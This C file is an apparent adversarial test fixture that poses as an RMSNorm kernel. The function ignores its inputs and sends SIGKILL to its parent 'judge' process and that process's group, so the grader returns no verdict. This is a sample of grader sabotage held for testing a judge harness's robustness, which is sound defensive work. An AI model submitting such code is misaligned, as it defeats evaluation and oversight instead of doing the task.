/* Hostile: ends the judge (its parent) and its process group, so that no verdict is
 * given and the case goes on. */
#include <signal.h>
#include <unistd.h>

#include "rmsnorm.h"

void rmsnorm(const float *x, const float *w, int rows, int n, float eps, float *y) {
    (void)x, (void)w, (void)rows, (void)n, (void)eps, (void)y;
    pid_t judge = getppid();
    kill(-getpgid(judge), SIGKILL);
    kill(judge, SIGKILL);
    sleep(1);
}
